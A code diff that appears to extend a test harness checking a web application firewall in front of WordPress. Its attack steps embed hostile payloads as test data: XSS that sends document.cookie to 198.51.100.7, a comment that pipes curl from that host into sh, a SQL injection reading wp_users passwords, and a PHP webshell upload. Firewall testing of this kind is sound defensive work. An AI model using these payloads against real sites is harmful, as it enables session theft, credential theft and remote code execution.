@@ -27,7 +27,7 @@
  * files are never copied into the repository; the database is `mamori_wpreal`.
  */
 import { spawn, execFileSync } from 'node:child_process';
-import { existsSync, mkdirSync, writeFileSync, readFileSync, statSync, readdirSync, openSync, readSync, closeSync, chownSync } from 'node:fs';
+import { existsSync, rmSync, mkdirSync, writeFileSync, readFileSync, statSync, readdirSync, openSync, readSync, closeSync, chownSync } from 'node:fs';
 import { request } from 'node:http';
 import { connect } from 'node:net';
 import { deflateSync } from 'node:zlib';
@@ -471,6 +471,7 @@ class Audit {
 
 async function startMamori(pass) {
   const { file, dataDir } = mamoriConfig(pass);
+  rmSync(dataDir, { recursive: true, force: true });
   mkdirSync(dataDir, { recursive: true });
   const child = start(`mamori-${pass}`, process.execPath, [join(ROOT, 'packages/cli/bin/mamori.js'), 'up', '--config', file]);
   await waitPort(PROXY_PORT, 'mamori up', 120_000);
@@ -531,6 +532,9 @@ function editorSteps() {
   }
   step('REST save, all four samples in one post', () =>
     rest('POST', `/wp-json/wp/v2/posts/${c.postId}?_locale=user`, json({ id: Number(c.postId), title: 'All the samples', content: Object.values(SNIPPETS).map((s) => blockContent(s.block)).join('\n\n'), status: 'publish' }), { 'X-HTTP-Method-Override': 'PUT' }),
+  );
+  step('REST save via /index.php?rest_route= (plain permalinks), all samples', () =>
+    rest('POST', `/index.php?rest_route=${encodeURIComponent(`/wp/v2/posts/${c.postId}`)}&_locale=user`, json({ id: Number(c.postId), title: 'All the samples', content: Object.values(SNIPPETS).map((s) => blockContent(s.block)).join('\n\n'), status: 'publish' }), { 'X-HTTP-Method-Override': 'PUT' }),
   );
   for (const [key, s] of Object.entries(SNIPPETS)) {
     step(`classic form POST /wp-admin/post.php, ${s.label}`, async () => {
@@ -708,6 +712,15 @@ function attackSteps(ctx) {
   const comment = (text) => () => a.post('/wp-comments-post.php', form({ comment: text, author: 'x', email: 'x@example.test', url: '', submit: 'Post Comment', comment_post_ID: ctx.postId ?? '1', comment_parent: '0' }));
   attack('XSS in a comment (<script>)', 'CRS 941', comment('great post<script>fetch("//198.51.100.7/?c="+document.cookie)</script>'));
   attack('XSS in a comment (onerror)', 'CRS 941', comment('<img src=x onerror=alert(document.domain)>'));
+
+  // What the editor exclusions give up, and what they keep: attacks aimed at the excluded fields.
+  const anon = (path, body) => () => a.post(path, json(body), { 'X-HTTP-Method-Override': 'PUT' });
+  const givenUp = (name, source, run) => steps.push({ kind: 'attack', name, source, expect: 'refuse', excludedExpect: 'info', run });
+  givenUp('XSS in json.content, no login (WordPress: 401)', 'given up', anon('/wp-json/wp/v2/posts/1', { content: '<script>fetch("//198.51.100.7/?c="+document.cookie)</script>' }));
+  givenUp('shell command in a comment', 'given up', comment('try this: $(curl -s 198.51.100.7/x|sh)'));
+  attack('SQLi in json.content, no login', 'kept (942)', anon('/wp-json/wp/v2/posts/1', { content: "1' UNION SELECT user_login,user_pass FROM wp_users-- -" }));
+  attack('XSS in json.title, no login', 'kept (941)', anon('/wp-json/wp/v2/posts/1', { title: '<img src=x onerror=alert(1)>' }));
+  attack('webshell upload via the excluded REST route', 'kept (36104010)', () => a.post('/wp-json/wp/v2/posts/1', multipart({ content: 'x' }, [{ field: 'file', filename: 'a.jpg', type: 'image/jpeg', data: '<?php system($_GET["c"]); ?>' }])));
   return steps;
 }
 
@@ -722,9 +735,10 @@ function refusedBy(res, lines) {
   return undefined;
 }
 
-async function runSteps(steps, audit) {
+async function runSteps(steps, audit, pass) {
   const rows = [];
-  for (const s of steps) {
+  for (const s0 of steps) {
+    const s = pass === 'excluded' && s0.excludedExpect ? { ...s0, expect: s0.excludedExpect } : s0;
     let res;
     try {
       res = await s.run();
@@ -734,7 +748,8 @@ async function runSteps(steps, audit) {
     const lines = await audit.take(s.expect === 'refuse' || [400, 403, 413, 429, 431].includes(res.status));
     const refused = refusedBy(res, lines);
     const ids = [...new Set(lines.flatMap((l) => (l.matched ?? []).map((m) => m.id)))].filter((id) => !/^9(49|59|80)\d{3}$/.test(String(id)));
-    const ok = s.expect === 'refuse' ? refused !== undefined : refused === undefined && res.status > 0 && res.status < 500;
+    const ok = s.expect === 'info' || (s.expect === 'refuse' ? refused !== undefined : refused === undefined && res.status > 0 && res.status < 500);
+    if (s0.excludedExpect) s.name = `${s.name} [${pass === 'excluded' ? 'given up' : 'bare'}]`;
     const matched = lines.flatMap((l) => (l.matched ?? []).map((m) => `${m.id} ${m.target}=${String(m.data).slice(0, 60)}`));
     rows.push({ kind: s.kind, name: s.name, source: s.source, expect: s.expect, status: res.status, refused: refused ?? '', rules: ids, matched, ok, note: res.status === 0 ? res.text : '' });
   }
@@ -745,7 +760,7 @@ function table(rows) {
   const out = [];
   const w = Math.max(...rows.map((r) => r.name.length));
   out.push(`${'request'.padEnd(w)}  expect  status  mamori        rules`);
-  for (const r of rows) out.push(`${r.name.padEnd(w)}  ${(r.expect === 'refuse' ? '403' : 'pass').padEnd(6)}  ${String(r.status).padEnd(6)}  ${(r.refused || '-').padEnd(12)}  ${r.rules.join(' ')}${r.ok ? '' : '   <-- ' + (r.expect === 'refuse' ? 'NOT REFUSED' : 'FALSE POSITIVE')}${r.note ? ' ' + r.note : ''}`);
+  for (const r of rows) out.push(`${r.name.padEnd(w)}  ${(r.expect === 'refuse' ? '403' : r.expect).padEnd(6)}  ${String(r.status).padEnd(6)}  ${(r.refused || '-').padEnd(12)}  ${r.rules.join(' ')}${r.ok ? '' : '   <-- ' + (r.expect === 'refuse' ? 'NOT REFUSED' : 'FALSE POSITIVE')}${r.note ? ' ' + r.note : ''}`);
   return out.join('\n');
 }
 
@@ -761,18 +776,24 @@ async function main() {
       const m = await startMamori(pass);
       try {
         const { steps, ctx } = editorSteps();
-        const rows = await runSteps([...steps], m.audit);
-        rows.push(...(await runSteps(attackSteps(ctx), m.audit)));
+        const rows = await runSteps([...steps], m.audit, pass);
+        rows.push(...(await runSteps(attackSteps(ctx), m.audit, pass)));
         results[pass] = rows;
         console.log(`\n== pass "${pass}": ${pass === 'bare' ? 'CRS PL1 + rule pack, no exclusions' : 'with the editor exclusions of docs/waf.md'} (config ${m.file})\n`);
         console.log(table(rows));
         const fp = rows.filter((r) => r.expect === 'pass' && !r.ok);
+        const info = rows.filter((r) => r.expect === 'info');
         const miss = rows.filter((r) => r.expect === 'refuse' && !r.ok);
-        console.log(`\n${pass}: ${rows.filter((r) => r.expect === 'pass').length - fp.length}/${rows.filter((r) => r.expect === 'pass').length} normal requests passed, ${rows.filter((r) => r.expect === 'refuse').length - miss.length}/${rows.filter((r) => r.expect === 'refuse').length} attacks refused`);
+        console.log(`\n${pass}: ${rows.filter((r) => r.expect === 'pass').length - fp.length}/${rows.filter((r) => r.expect === 'pass').length} normal requests passed, ${rows.filter((r) => r.expect === 'refuse').length - miss.length}/${rows.filter((r) => r.expect === 'refuse').length} attacks refused${info.length ? `; given up by the exclusions: ${info.map((r) => `${r.name} -> ${r.refused || r.status}`).join(', ')}` : ''}`);
         if (process.env.MAMORI_WP_VERBOSE) for (const r of rows) if (r.matched.length) console.log(`  ${r.name}: ${r.matched.join(' | ')}`);
       } finally {
         await stop(m.child);
       }
+      const ev = JSON.parse(execFileSync(process.execPath, [join(ROOT, 'packages/cli/bin/mamori.js'), 'events', '--config', m.file, '--json', '--each', '--limit', '10000'], { encoding: 'utf8' }));
+      const byAction = {};
+      for (const e of ev) byAction[e['event.action']] = (byAction[e['event.action']] ?? 0) + 1;
+      const proxyRefused = results[pass].filter((r) => r.refused.startsWith('proxy')).length;
+      console.log(`${pass}: mamori events: ${JSON.stringify(byAction)}; ${proxyRefused} requests refused by the proxy before the WAF (no event, no audit line)`);
     }
   } finally {
     for (const { name, child } of children.reverse()) if (KEEP && (name === 'nginx' || name === 'php-fpm')) continue;
